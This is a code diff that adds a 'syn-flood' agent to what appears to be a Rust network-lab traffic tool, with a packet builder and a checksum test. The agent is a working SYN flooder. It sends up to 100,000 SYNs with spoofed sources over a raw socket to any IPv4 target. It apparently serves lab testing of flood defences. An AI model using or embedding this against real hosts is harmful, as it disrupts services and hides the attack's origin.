@@ -43,6 +43,7 @@ pub fn run(args: &[String]) -> Result<(), LabError> {
         "udp-sink" => udp_sink(rest),
         "udp-blast" => udp_blast(rest),
         "rr" => request_response(rest),
+        "syn-flood" => syn_flood(rest),
         other => Err(LabError::Agent(format!("unknown agent {other:?}"))),
     }
 }
@@ -230,4 +231,112 @@ fn request_response(args: &[String]) -> Result<(), LabError> {
     }
     println!("rounds {rounds}");
     Ok(())
+}
+
+/// syn-flood ADDR PORT COUNT: SYNs from spoofed, unreachable sources in
+/// 10.77.1.100-249 (no host answers the SYN-ACKs), sent on a raw socket.
+fn syn_flood(args: &[String]) -> Result<(), LabError> {
+    let target = addr(args, 0)?;
+    let count: u32 = arg(args, 2, "count")?;
+    let std::net::IpAddr::V4(dst) = target.ip() else {
+        return Err(LabError::Agent("syn-flood needs an IPv4 target".into()));
+    };
+    let raw = Socket::new(
+        Domain::IPV4,
+        Type::RAW,
+        Some(socket2::Protocol::from(libc_ipproto_raw())),
+    )
+    .map_err(io("raw socket (needs CAP_NET_RAW)"))?;
+    let mut sent = 0;
+    for i in 0..count.min(100_000) {
+        let src = std::net::Ipv4Addr::new(10, 77, 1, 100 + (i % 150) as u8);
+        let sport = 1024 + (i % 60_000) as u16;
+        let packet = syn_packet(
+            src,
+            dst,
+            sport,
+            target.port(),
+            i.wrapping_mul(2_654_435_761),
+        );
+        if raw
+            .send_to(&packet, &SocketAddr::new(dst.into(), 0).into())
+            .is_ok()
+        {
+            sent += 1;
+        }
+    }
+    println!("sent {sent}");
+    Ok(())
+}
+
+/// IPPROTO_RAW: the socket supplies its own IP header.
+const fn libc_ipproto_raw() -> i32 {
+    255
+}
+
+/// A 40-byte IPv4 + TCP SYN with valid checksums.
+pub fn syn_packet(
+    src: std::net::Ipv4Addr,
+    dst: std::net::Ipv4Addr,
+    sport: u16,
+    dport: u16,
+    seq: u32,
+) -> [u8; 40] {
+    let mut p = [0u8; 40];
+    p[0] = 0x45; // version 4, header 20 bytes
+    p[2..4].copy_from_slice(&40u16.to_be_bytes());
+    p[6] = 0x40; // DF
+    p[8] = 64; // TTL
+    p[9] = 6; // TCP
+    p[12..16].copy_from_slice(&src.octets());
+    p[16..20].copy_from_slice(&dst.octets());
+    let ip_sum = checksum(&p[..20], 0);
+    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
+    let t = &mut p[20..];
+    t[0..2].copy_from_slice(&sport.to_be_bytes());
+    t[2..4].copy_from_slice(&dport.to_be_bytes());
+    t[4..8].copy_from_slice(&seq.to_be_bytes());
+    t[12] = 5 << 4; // data offset 5 words
+    t[13] = 0x02; // SYN
+    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
+    // Pseudo-header: src, dst, zero, protocol, TCP length.
+    let mut pseudo = 0u32;
+    for chunk in src.octets().chunks(2).chain(dst.octets().chunks(2)) {
+        pseudo += u32::from(u16::from_be_bytes([chunk[0], chunk[1]]));
+    }
+    pseudo += 6 + 20;
+    let tcp_sum = checksum(&p[20..], pseudo);
+    p[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
+    p
+}
+
+/// The Internet checksum (RFC 1071) of `data`, starting from `initial`.
+fn checksum(data: &[u8], initial: u32) -> u16 {
+    let mut sum = initial;
+    for chunk in data.chunks(2) {
+        let word = u16::from_be_bytes([chunk[0], *chunk.get(1).unwrap_or(&0)]);
+        sum += u32::from(word);
+    }
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn syn_packet_checksums_verify() {
+        let p = syn_packet([10, 0, 0, 1].into(), [10, 0, 0, 2].into(), 1234, 80, 7);
+        // A correct header sums to 0xffff (checksum field included), i.e. checksum() == 0.
+        assert_eq!(checksum(&p[..20], 0), 0);
+        let mut pseudo = 0u32;
+        for w in [0x0a00u32, 0x0001, 0x0a00, 0x0002] {
+            pseudo += w;
+        }
+        assert_eq!(checksum(&p[20..], pseudo + 6 + 20), 0);
+        assert_eq!(p[33], 0x02, "SYN flag");
+    }
 }
